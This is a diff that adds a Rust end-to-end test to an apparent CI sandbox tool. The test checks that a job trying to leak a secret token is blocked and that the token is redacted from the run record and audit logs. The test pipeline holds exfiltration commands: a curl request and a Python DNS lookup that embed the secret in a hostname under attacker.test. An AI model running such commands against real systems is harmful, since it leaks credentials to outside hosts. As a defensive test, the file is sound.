@@ -14,7 +14,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
 
-use common::{job, World};
+use common::{job, set_secret, World};
 use hickory_proto::op::{Message, MessageType, ResponseCode};
 use hickory_proto::rr::{rdata, Name, RData, Record, RecordType};
 use serde_json::Value;
@@ -335,4 +335,42 @@ fn e2e_egress_allowlist_is_the_only_way_out() {
         audit.stdout
     );
     drop(dns);
+}
+
+/// A job that asks its proxy (or its DNS responder) for a name built from
+/// a secret must not get the secret into the run record or the audit log:
+/// the denial is recorded with the name redacted.
+#[test]
+fn e2e_secret_in_a_requested_name_is_redacted_from_egress_events() {
+    if !have("curl") || !have("python3") {
+        panic!("this test needs curl and python3 on the host (apt-get install curl python3)");
+    }
+    let w = World::new();
+    let secret = "q7zk3hunter2token";
+    set_secret(&w, "TOKEN", secret, "exfil/*");
+    let file = w.pipeline(
+        "exfil.yml",
+        "version: 1\nname: exfil\njobs:\n  leak:\n    secrets: [{ name: TOKEN, env: TOKEN }]\n    network: { egress: [\"example.org:443\"] }\n    steps:\n      - run: |\n          curl -s -o /dev/null http://$TOKEN.attacker.test/ || true\n          python3 -c 'import socket,os\n          try: socket.getaddrinfo(os.environ[\"TOKEN\"] + \".attacker.test\", 80)\n          except OSError: pass'\n",
+    );
+    let (r, doc) = w.run_json(&file, &[]);
+    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
+    assert!(!r.stderr.contains(secret), "terminal: {}", r.stderr);
+    let shown = w.show(&doc["run"].to_string());
+    let egress = job(&shown, "leak")["egress"].as_array().unwrap().clone();
+    for kind in ["http", "dns"] {
+        assert!(
+            egress
+                .iter()
+                .any(|e| e["kind"] == kind && e["host"].as_str().unwrap().contains("attacker.test")),
+            "no {kind} denial recorded: {egress:#?}"
+        );
+    }
+    assert!(!shown.to_string().contains(secret), "run record: {shown}");
+    let audit = w.airlock(&["audit", "show", "--json"]);
+    assert!(audit.stdout.contains("attacker.test"), "{}", audit.stdout);
+    assert!(
+        !audit.stdout.contains(secret),
+        "audit log: {}",
+        audit.stdout
+    );
 }
